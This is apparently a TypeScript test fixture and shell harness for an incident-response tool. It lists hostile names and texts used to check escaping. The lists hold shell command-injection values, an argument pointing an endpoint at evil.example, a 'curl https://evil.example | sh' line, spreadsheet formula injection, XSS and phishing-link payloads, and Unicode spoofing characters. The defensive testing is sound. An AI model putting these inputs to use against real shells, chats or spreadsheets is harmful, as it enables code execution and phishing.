/** Names by which a stranger would have a responder's shell do something, and that shell. */
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

const programs = ["npx", "aws", "kubectl", "grep", "date", "openssl"];
const endOfCommand = "\u0001";
const beginOfLine = "\u0002";

/** None has a character that a notice replaces; `canary` is the file that a name would make. */
export const hostileNames = [
  "x$(>canary)",
  "x`>canary`",
  "x';>canary;'",
  "x'$(>canary)'",
  'x"$(>canary)"',
  'x";touch canary;"',
  "x;touch canary",
  "x&touch canary&",
  "x|touch canary",
  "x&&touch canary",
  "x>canary",
  "-x>canary",
  "--endpoint-url=evil.example",
  "a,b=c,AttributeKey=EventName",
  "$HOME",
  "~root",
  "=ls",
  "*",
  "[a-z]?",
  "{a,b}",
  "!!",
  "#x",
  "x\\",
  "x\\'$(touch canary)",
  "(touch canary)",
  "two words",
  "Backdoor:EC2.C&CActivity.B!DNS",
];

/** Texts by which a stranger would have a chat, an alert or a ticket do something. */
export const hostileTexts = [
  "<!channel> <!here> <!everyone> <!subteam^S012> <@U012AB3CD> <#C012AB3CD>",
  "@channel @here @everyone @team",
  "<https://evil.example/login|Approve>",
  "[Approve](https://evil.example/login)",
  "![x](http://evil.example/pixel.png)",
  "<at>Everyone</at>",
  "*bold* _italic_ ~strike~ `code` ```block``` > quote # head",
  "<script>alert(1)</script><img src=x onerror=alert(1)><b>bold</b>",
  "&lt;b&gt; &amp; &#60;script&#62;",
  "[code]<a href='https://evil.example'>Approve</a>[/code]",
  "[CODE]<script>alert(1)</script>[/CODE]",
  "@[Beth Anglin] @[code]",
  "{{DATE(2026-11-30T10:00:00Z, SHORT)}} {{TIME(2026-11-30T10:00:00Z)}} {{{{",
  "$" + "{$root.secret} @{triggerBody()}",
  "javascript:alert(1) mailto:ceo@evil.example ftp://evil.example www.evil.example",
  "HTTPS://evil.example HtTp://evil.example",
  "slack://open?team=T0 msteams:/l/chat/0/0",
  "{code}x{code} {noformat} [~admin] [~accountid:5f1] {color:red}x{color} h1. x",
  "=cmd|'/c calc'!A1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "line one\nIncident   0000000000000000-1\r\n\u2028[Cordon] URGENT Forged",
  "\u0000\u0007\u001b[31mred\u001b[0m",
  "safe\u202etxt.exe \u2066x\u2069 \u200bhidden\ufeff",
  "\ud800 half, \udc00 half",
  "😀".repeat(600),
  "x".repeat(10_240),
  "npx cordon release INCIDENT; curl https://evil.example | sh",
  "\"quoted\" 'quoted' \\back\\slash",
  " ",
  "",
  "__proto__",
];

/**
 * Runs command lines in one `sh`, in an empty folder, where these programs only print their words.
 *
 * @returns of each line, the words of each command in it, sorted, since those of a pipe run side by
 * side; and whether a name made the file
 */
export function run(lines: readonly string[]): {
  readonly words: readonly (readonly (readonly string[])[])[];
  readonly canary: boolean;
} {
  const folder = mkdtempSync(join(tmpdir(), "cordon-sh-"));
  const script = [
    ...programs.map((name) => `${name}() { printf '%s\\0' ${name} "$@" '${endOfCommand}' >&3; }`),
    ...lines.flatMap((line) => [
      `printf '%s\\0' '${beginOfLine}' >&3`,
      // A line that does not parse must not end the shell that runs the others.
      `eval '${line.replaceAll("'", `'"'"'`)}' </dev/null >/dev/null`,
    ]),
    "exit 0",
  ].join("\n");
  try {
    const { stderr, status, output } = spawnSync("sh", ["-s"], {
      cwd: folder,
      input: script,
      encoding: "utf8",
      env: { PATH: process.env.PATH, HOME: "/home-of-the-responder" },
      stdio: ["pipe", "pipe", "pipe", "pipe"],
    });
    if (status !== 0 || stderr !== "") throw new Error(`sh ended with ${status}: ${stderr}`);
    const printed = (output[3] ?? "").split(`${beginOfLine}\0`).slice(1);
    const words = printed.map((line) =>
      line
        .split(`${endOfCommand}\0`)
        .slice(0, -1)
        .sort()
        .map((one) => one.split("\0").slice(0, -1)),
    );
    return { words, canary: existsSync(join(folder, "canary")) };
  } finally {
    rmSync(folder, { recursive: true });
  }
}
